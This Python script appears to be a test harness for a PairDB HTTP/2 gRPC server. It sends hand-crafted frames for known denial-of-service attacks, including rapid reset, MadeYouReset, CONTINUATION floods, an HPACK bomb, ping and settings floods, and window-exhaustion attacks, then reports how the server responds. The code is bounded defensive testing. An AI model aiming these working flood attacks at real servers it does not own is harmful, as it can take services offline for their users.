#!/usr/bin/env python3
"""HTTP/2 attacks on a PairDB native HTTP/2 server (tests/http2_attacks.rs runs them).

    python3 h2_attacks.py ATTACK HOST:PORT [--tenant T --key K]

Each attack opens one raw TCP connection, sends hand-made frames (hyperframe builds them, the
header blocks are encoded by hand so that the HPACK dynamic table holds exactly what an attack
puts there), reads the server's frames back on a thread (hyperframe parses them, hpack decodes
the header blocks) and prints ONE JSON line of what it observed:

    {"attack": ..., "goaway": 11, "goaway_last_stream": N, "goaway_debug": "...",
     "rst": {"7": 12}, "statuses": {"431": 40}, "frames_sent": N, "seconds": 1.2, ...}

Every attack is bounded in time (at most 10 s of sending, header_timeout waits up to 14 s; on an
idle machine the floods end within a second) and in what it sends (a frame cap), and stops early
once the server sent GOAWAY or closed. The bounds are generous because a test node's core may be
shared with other busy processes: a starved server reads slowly, and its budgets refill meanwhile.
"""

import json
import socket
import sys
import threading
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STORAGE = "/pairdb.storage.v1.StorageService/"
# gRPC framing of an empty message (HealthCheckRequest {}).
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


# ------------------------------------------------------------------------------------------
# Encoding.
# ------------------------------------------------------------------------------------------


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """RFC 7541 §5.1 integer with a `prefix_bits` prefix, OR-ed into the first byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    if isinstance(s, str):
        s = s.encode()
    return hpack_int(len(s), 7) + s


def literal(name, value, indexing=False):
    """A literal field with a literal name: without indexing (0x00), or with incremental
    indexing (0x40, the field enters the dynamic table)."""
    return (b"\x40" if indexing else b"\x00") + hpack_string(name) + hpack_string(value)


def indexed(index):
    return hpack_int(index, 7, 0x80)


def request_fields(path, extra=()):
    """A gRPC request's header block, every field a literal without indexing: the dynamic
    table is left alone."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attack"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] + list(extra)
    return b"".join(literal(n, v) for n, v in fields)


def grpc_message(payload):
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def pb_string(field, value):
    value = value.encode() if isinstance(value, str) else value
    return bytes([(field << 3) | 2]) + hpack_varint(len(value)) + value


def hpack_varint(n):
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def pb_varint(field, value):
    return bytes([field << 3]) + hpack_varint(value)


def write_request(tenant, key, value):
    """WriteRequest {tenant_id, key, version: Version {value, vector_clock, timestamp,
    writer}}, protobuf by hand."""
    entry = pb_string(1, "attack/0") + pb_varint(2, 1)
    clock = pb_string(1, entry)
    version = (
        pb_string(1, value)
        + pb_string(2, clock)
        + pb_varint(3, int(time.time() * 1e6))
        + pb_string(4, "attack/0")
    )
    return grpc_message(pb_string(1, tenant) + pb_string(2, key) + pb_string(3, version))


def read_request(tenant, key):
    return grpc_message(pb_string(1, tenant) + pb_string(2, key))


def headers(stream, block, end_stream=False, end_headers=True):
    f = HeadersFrame(stream)
    f.data = block
    if end_stream:
        f.flags.add("END_STREAM")
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


def continuation(stream, block, end_headers=False):
    f = ContinuationFrame(stream)
    f.data = block
    if end_headers:
        f.flags.add("END_HEADERS")
    return f.serialize()


def data(stream, payload, end_stream=False):
    f = DataFrame(stream)
    f.data = payload
    if end_stream:
        f.flags.add("END_STREAM")
    return f.serialize()


def rst(stream, code):
    return RstStreamFrame(stream, error_code=code).serialize()


def window_update(stream, increment):
    return WindowUpdateFrame(stream, window_increment=increment).serialize()


def settings(**values):
    f = SettingsFrame(0)
    for k, v in values.items():
        f.settings[getattr(SettingsFrame, k)] = v
    return f.serialize()


def ping(payload):
    return PingFrame(0, opaque_data=payload).serialize()


# ------------------------------------------------------------------------------------------
# One connection: a sender (the caller) and a reader thread.
# ------------------------------------------------------------------------------------------


class Conn:
    def __init__(self, target, initial_settings=None, conn_window=0, read=True):
        host, port = target.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        # Reads wait for the slowest defence (the 10 s header timeout) and then some.
        self.sock.settimeout(20)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.start = time.monotonic()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.send_error = None
        self.lock = threading.Lock()
        self.goaway = None
        self.goaway_last_stream = None
        self.goaway_debug = None
        self.goaway_at = None
        self.rst = {}
        self.rst_streams = set()
        self.statuses = {}
        self.grpc_statuses = {}
        self.stream_status = {}
        self.stream_grpc_status = {}
        self.frames_received = {}
        self.data_bytes = 0
        self.closed = False
        self.closed_at = None
        self.read_error = None
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.sendall(PREFACE + settings(**(initial_settings or {})), frames=1)
        if conn_window:
            self.sendall(window_update(0, conn_window), frames=1)
        self.settings_acked = False
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()
            # The server's SETTINGS first, ACKed: an ACK sent later could land inside a header
            # block an attack leaves open, and turn the attack into a plain protocol error.
            self.wait(lambda: self.settings_acked or self.closed, 5)

    def elapsed(self):
        return time.monotonic() - self.start

    def sendall(self, payload, frames):
        """Sends; False (and remembers why) once the server closed the connection."""
        if self.send_error is not None:
            return False
        try:
            self.sock.sendall(payload)
        except OSError as e:
            self.send_error = repr(e)
            return False
        self.frames_sent += frames
        self.bytes_sent += len(payload)
        return True

    def _recv_exact(self, n, buf):
        while len(buf) < n:
            chunk = self.sock.recv(65536)
            if not chunk:
                return False
            buf.extend(chunk)
        return True

    def _read(self):
        buf = bytearray()
        try:
            while True:
                if not self._recv_exact(9, buf):
                    break
                frame, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                if not self._recv_exact(9 + length, buf):
                    break
                body = bytes(buf[9 : 9 + length])
                del buf[: 9 + length]
                self._on_frame(frame, body)
        except socket.timeout:
            self.read_error = "timeout"
        except OSError as e:
            self.read_error = repr(e)
        except Exception as e:  # noqa: BLE001 - reported in the JSON line
            self.read_error = "parse: " + repr(e)
        with self.lock:
            self.closed = True
            self.closed_at = self.elapsed()

    def _on_frame(self, frame, body):
        name = type(frame).__name__.replace("Frame", "").upper()
        with self.lock:
            self.frames_received[name] = self.frames_received.get(name, 0) + 1
        if isinstance(frame, (HeadersFrame, ContinuationFrame)):
            frame.parse_body(memoryview(body))
            # The server never splits its small header blocks; decode each frame's block.
            fields = self.decoder.decode(bytes(frame.data), raw=True)
            with self.lock:
                for n, v in fields:
                    if n == b":status":
                        s = v.decode()
                        self.statuses[s] = self.statuses.get(s, 0) + 1
                        self.stream_status[frame.stream_id] = s
                    elif n == b"grpc-status":
                        s = v.decode()
                        self.grpc_statuses[s] = self.grpc_statuses.get(s, 0) + 1
                        self.stream_grpc_status[frame.stream_id] = s
            return
        if isinstance(frame, DataFrame):
            with self.lock:
                self.data_bytes += len(body)
            return
        frame.parse_body(memoryview(body))
        if isinstance(frame, GoAwayFrame):
            with self.lock:
                if self.goaway is None:
                    self.goaway = frame.error_code
                    self.goaway_last_stream = frame.last_stream_id
                    self.goaway_debug = bytes(frame.additional_data).decode(errors="replace")
                    self.goaway_at = self.elapsed()
        elif isinstance(frame, RstStreamFrame):
            with self.lock:
                key = str(frame.error_code)
                self.rst[key] = self.rst.get(key, 0) + 1
                self.rst_streams.add(frame.stream_id)
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            # The server's drain PING: answer it like a client would.
            ack = PingFrame(0, opaque_data=frame.opaque_data)
            ack.flags.add("ACK")
            self.sendall(ack.serialize(), frames=0)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.sendall(ack.serialize(), frames=0)
            with self.lock:
                self.settings_acked = True

    def done(self):
        """The server sent GOAWAY or closed the connection."""
        with self.lock:
            return self.goaway is not None or self.closed

    def wait(self, predicate, timeout):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                if predicate():
                    return True
            time.sleep(0.01)
        return False

    def wait_end(self, timeout):
        """Waits for the GOAWAY and the close that follows it."""
        self.wait(lambda: self.closed or self.goaway is not None, timeout)
        self.wait(lambda: self.closed, min(1.0, timeout))

    def report(self, attack, **extra):
        with self.lock:
            out = {
                "attack": attack,
                "goaway": self.goaway,
                "goaway_name": _code_name(self.goaway),
                "goaway_last_stream": self.goaway_last_stream,
                "goaway_debug": self.goaway_debug,
                "goaway_at": _round(self.goaway_at),
                "rst": dict(self.rst),
                "rst_streams": len(self.rst_streams),
                "statuses": dict(self.statuses),
                "grpc_statuses": dict(self.grpc_statuses),
                "frames_received": dict(self.frames_received),
                "data_bytes": self.data_bytes,
                "closed": self.closed,
                "closed_at": _round(self.closed_at),
                "read_error": self.read_error,
                "send_error": self.send_error,
                "frames_sent": self.frames_sent,
                "bytes_sent": self.bytes_sent,
                "seconds": _round(self.elapsed()),
            }
        out.update(extra)
        try:
            self.sock.close()
        except OSError:
            pass
        return out


def _round(x):
    return None if x is None else round(x, 3)


def _code_name(code):
    if code is None:
        return None
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


def flood(conn, make_batch, max_frames, seconds, batch_frames):
    """Sends `make_batch(i)` (bytes of `batch_frames` frames) until the server answers with
    GOAWAY or closes, `max_frames` are sent, or `seconds` pass."""
    i = 0
    deadline = time.monotonic() + seconds
    while conn.frames_sent < max_frames and time.monotonic() < deadline and not conn.done():
        if not conn.sendall(make_batch(i), frames=batch_frames):
            break
        i += 1
    conn.wait_end(3.0)


# ------------------------------------------------------------------------------------------
# The attacks.
# ------------------------------------------------------------------------------------------

HEALTH = STORAGE + "HealthCheck"


def rapid_reset(target, args):
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487)."""
    conn = Conn(target)
    block = request_fields(HEALTH)

    def batch(i):
        out = bytearray()
        for j in range(50):
            sid = 1 + 2 * (i * 50 + j)
            out += headers(sid, block) + rst(sid, ErrorCodes.CANCEL)
        return bytes(out)

    flood(conn, batch, max_frames=100_000, seconds=10, batch_frames=100)
    return conn.report("rapid_reset", streams_opened=conn.frames_sent // 2)


def made_you_reset(target, args):
    """Streams the server itself must reset (MadeYouReset, CVE-2025-8671): a WINDOW_UPDATE of 0
    on an open stream (PROTOCOL_ERROR), and DATA after END_STREAM (STREAM_CLOSED)."""
    conn = Conn(target)
    block = request_fields(HEALTH)

    def batch(i):
        out = bytearray()
        for j in range(50):
            sid = 1 + 2 * (i * 50 + j)
            if j % 2 == 0:
                out += headers(sid, block) + window_update(sid, 0)
            else:
                out += headers(sid, block) + data(sid, EMPTY_MESSAGE, end_stream=True)
                out += data(sid, b"x")
        return bytes(out)

    flood(conn, batch, max_frames=125_000, seconds=10, batch_frames=125)
    return conn.report("made_you_reset")


def continuation_flood(target, args):
    """HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION (CVE-2024-27316
    and kin): 1 KiB ones, never ending."""
    conn = Conn(target)
    conn.sendall(headers(1, request_fields(HEALTH), end_headers=False), frames=1)
    filler = literal("x-filler", "f" * 1000)
    flood(
        conn,
        lambda i: continuation(1, filler),
        max_frames=20_000,
        seconds=5,
        batch_frames=1,
    )
    return conn.report("continuation_flood")


def continuation_zero(target, args):
    """As continuation_flood with zero-length CONTINUATIONs: no bytes, only frames."""
    conn = Conn(target)
    conn.sendall(headers(1, request_fields(HEALTH), end_headers=False), frames=1)
    flood(
        conn,
        lambda i: continuation(1, b"") * 100,
        max_frames=100_000,
        seconds=5,
        batch_frames=100,
    )
    return conn.report("continuation_zero")


def hpack_bomb(target, args):
    """A 4 KiB header enters the dynamic table once, then every request references it
    thousands of times with one-byte indexes: 16 KiB on the wire decodes to 64 MiB. Each
    request must get 431; the connection stays up and HPACK in sync (a normal call on the same
    connection succeeds afterwards)."""
    conn = Conn(target)
    base = request_fields(HEALTH)
    big = literal("x-bomb", "b" * 4000, indexing=True)
    # The first dynamic entry is index 62 (after the 61 static ones): 0xBE, one byte. As many
    # as fit one 16 KiB HEADERS frame: 12,000 of them decode to 48 MB.
    refs = indexed(62) * 12_000
    requests = 0
    deadline = time.monotonic() + 5
    while requests < 200 and time.monotonic() < deadline and not conn.done():
        sid = 1 + 2 * requests
        block = base + (big if requests == 0 else b"") + refs
        if not conn.sendall(headers(sid, block, end_stream=True), frames=1):
            break
        requests += 1
    conn.wait(lambda: conn.statuses.get("431", 0) >= requests or conn.closed, 20)
    return finish_with_normal_call(conn, "hpack_bomb", 1 + 2 * requests, requests=requests)


def header_list(target, args):
    """Header lists over the decoded size and field-count limits, as plain literals: 300
    fields of 100 bytes (30 KiB, 300 fields) per request, in HEADERS + CONTINUATIONs."""
    conn = Conn(target)
    base = request_fields(HEALTH)
    many = b"".join(literal("x-h%03d" % k, "v" * 100) for k in range(300))
    requests = 0
    deadline = time.monotonic() + 5
    while requests < 100 and time.monotonic() < deadline and not conn.done():
        sid = 1 + 2 * requests
        block = base + many
        out = headers(sid, block[:16_000], end_stream=True, end_headers=False)
        rest = block[16_000:]
        while rest:
            piece, rest = rest[:16_000], rest[16_000:]
            out += continuation(sid, piece, end_headers=not rest)
        if not conn.sendall(out, frames=1 + (len(block) - 1) // 16_000):
            break
        requests += 1
    conn.wait(lambda: conn.statuses.get("431", 0) >= requests or conn.closed, 20)
    return finish_with_normal_call(conn, "header_list", 1 + 2 * requests, requests=requests)


def finish_with_normal_call(conn, attack, sid, **extra):
    """A HealthCheck on the attacked connection itself: it must still work."""
    ok = False
    if not conn.done():
        block = request_fields(HEALTH)
        conn.sendall(headers(sid, block) + data(sid, EMPTY_MESSAGE, end_stream=True), frames=2)
        conn.wait(lambda: sid in conn.stream_grpc_status or conn.closed, 10)
        ok = conn.stream_grpc_status.get(sid) == "0"
    return conn.report(attack, normal_call_after=ok, **extra)


def settings_flood(target, args):
    """SETTINGS frames (each must be ACKed) as fast as the socket takes them."""
    conn = Conn(target)
    one = settings(MAX_CONCURRENT_STREAMS=100)
    flood(conn, lambda i: one * 100, max_frames=100_000, seconds=5, batch_frames=100)
    return conn.report("settings_flood")


def ping_flood(target, args):
    """PINGs (each must be ACKed) with no stream traffic in between."""
    conn = Conn(target)
    flood(
        conn,
        lambda i: b"".join(ping((i * 100 + k).to_bytes(8, "big")) for k in range(100)),
        max_frames=100_000,
        seconds=5,
        batch_frames=100,
    )
    return conn.report("ping_flood")


def empty_data_flood(target, args):
    """One open stream, then empty DATA frames without END_STREAM: no bytes, only work."""
    conn = Conn(target)
    conn.sendall(headers(1, request_fields(HEALTH)), frames=1)
    flood(conn, lambda i: data(1, b"") * 100, max_frames=100_000, seconds=5, batch_frames=100)
    return conn.report("empty_data_flood")


def write_big(target, args):
    """Stores a value of `value_bytes` (default 1 MiB) under tenant/key, on a normal
    connection with wide-open windows; returns the key's (tenant, key)."""
    tenant = args.get("tenant", "attack")
    key = args.get("key", "big")
    size = int(args.get("value_bytes", 1 << 20))
    conn = Conn(
        target,
        initial_settings={"INITIAL_WINDOW_SIZE": 2**31 - 1},
        conn_window=2**31 - 1 - 65_535,
    )
    message = write_request(tenant, key, b"v" * size)
    out = headers(1, request_fields(STORAGE + "Write"))
    for k in range(0, len(message), 16_384):
        piece = message[k : k + 16_384]
        out += data(1, piece, end_stream=k + 16_384 >= len(message))
    conn.sendall(out, frames=1)
    conn.wait(lambda: 1 in conn.stream_grpc_status or conn.closed, 10)
    status = conn.stream_grpc_status.get(1)
    conn.report("write_big")
    if status != "0":
        sys.exit("writing the big value failed: grpc-status %r" % status)
    return tenant, key


def zero_window(target, args):
    """INITIAL_WINDOW_SIZE 0, then many Reads of a big value: every reply waits behind a closed
    window, in the server's memory. A burst of `burst` streams at once (the server accepts a
    whole read's worth of requests before any reply exists), then `more` streams once the
    replies are queued: the server must bound what it queues and refuse new streams; the
    connection is held (never opening a window) for `hold` seconds."""
    payload = read_request(*write_big(target, args))
    conn = Conn(target, initial_settings={"INITIAL_WINDOW_SIZE": 0})
    burst = int(args.get("burst", 64))
    more = int(args.get("more", 16))
    sid = 1
    for count in (burst, more):
        out = bytearray()
        for _ in range(count):
            out += headers(sid, request_fields(STORAGE + "Read")) + data(sid, payload, True)
            sid += 2
        if not conn.sendall(bytes(out), frames=2 * count):
            break
        time.sleep(0.3)
    conn.wait(lambda: conn.closed, float(args.get("hold", 3)))
    return conn.report(
        "zero_window",
        streams=burst + more,
        refused=conn.rst.get("7", 0),
        exhausted=conn.grpc_statuses.get("8", 0),
        replies_started=conn.statuses.get("200", 0) - conn.grpc_statuses.get("8", 0),
    )


def backlog(target, args):
    """Opens every window wide, sends Reads of a big value and never reads its socket: the
    replies pile up in the server's output. First a burst of `burst` small requests at once
    (the server reads them all in one go), then requests padded with an 8 KB header until the
    server stops reading (the send blocks) or `seconds` pass. The server must stop reading
    and bound the replies it buffers."""
    payload = read_request(*write_big(target, args))
    conn = Conn(
        target,
        initial_settings={"INITIAL_WINDOW_SIZE": 2**31 - 1, "MAX_FRAME_SIZE": 2**24 - 1},
        conn_window=2**31 - 1 - 65_535,
        read=False,
    )
    conn.sock.settimeout(0.5)
    deadline = time.monotonic() + float(args.get("seconds", 4))
    sid = 1

    def request(padded):
        extra = [("x-pad", "p" * 8000)] if padded else []
        block = request_fields(STORAGE + "Read", extra)
        return headers(sid, block) + data(sid, payload, True)

    burst = bytearray()
    for _ in range(int(args.get("burst", 300))):
        burst += request(False)
        sid += 2
    sent = 0
    stopped_reading = False
    try:
        conn.sock.sendall(bytes(burst))
        sent = (sid - 1) // 2
        while time.monotonic() < deadline and sid < 20_000:
            conn.sock.sendall(request(True))
            sid += 2
            sent += 1
    except socket.timeout:
        # The server stopped reading us: the defence.
        stopped_reading = True
    except OSError as e:
        conn.send_error = repr(e)
    conn.frames_sent = 2 * sent
    # Hold the connection unread while the test measures the server.
    time.sleep(max(0.0, deadline - time.monotonic()))
    return conn.report("backlog", requests_sent=sent, server_stopped_reading=stopped_reading)


def stream_ids(target, args):
    """Stream-id misuse, one fresh connection per case: an even id, a decreasing id, a reused
    (closed) id. Each must end the connection with a GOAWAY."""
    results = {}
    block = request_fields(HEALTH)
    cases = {
        "even": [headers(2, block)],
        "decreasing": [headers(5, block), headers(3, block)],
        "reused": [
            headers(1, block) + data(1, EMPTY_MESSAGE, end_stream=True),
            None,  # wait for the reply: stream 1 is then closed
            headers(1, block) + data(1, EMPTY_MESSAGE, end_stream=True),
        ],
    }
    start = time.monotonic()
    for name, steps in cases.items():
        conn = Conn(target)
        for step in steps:
            if step is None:
                conn.wait(lambda: 1 in conn.stream_grpc_status, 5)
            else:
                conn.sendall(step, frames=1)
        conn.wait_end(5)
        results[name] = conn.report("stream_ids/" + name)
    return {
        "attack": "stream_ids",
        "cases": results,
        "seconds": round(time.monotonic() - start, 3),
    }


def header_timeout(target, args):
    """A HEADERS without END_HEADERS, then silence: GOAWAY within the header timeout (10 s)."""
    conn = Conn(target)
    conn.sendall(headers(1, request_fields(HEALTH), end_headers=False), frames=1)
    conn.wait(lambda: conn.goaway is not None or conn.closed, float(args.get("wait", 14)))
    conn.wait(lambda: conn.closed, 1)
    return conn.report("header_timeout")


ATTACKS = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "continuation_zero": continuation_zero,
    "hpack_bomb": hpack_bomb,
    "header_list": header_list,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "empty_data_flood": empty_data_flood,
    "zero_window": zero_window,
    "backlog": backlog,
    "stream_ids": stream_ids,
    "header_timeout": header_timeout,
}


def main(argv):
    if len(argv) < 3 or argv[1] not in ATTACKS:
        sys.exit("usage: h2_attacks.py {%s} HOST:PORT [--name value ...]" % ",".join(ATTACKS))
    args = {}
    rest = argv[3:]
    for k in range(0, len(rest) - 1, 2):
        args[rest[k].lstrip("-")] = rest[k + 1]
    result = ATTACKS[argv[1]](argv[2], args)
    print(json.dumps(result, sort_keys=True), flush=True)


if __name__ == "__main__":
    main(sys.argv)
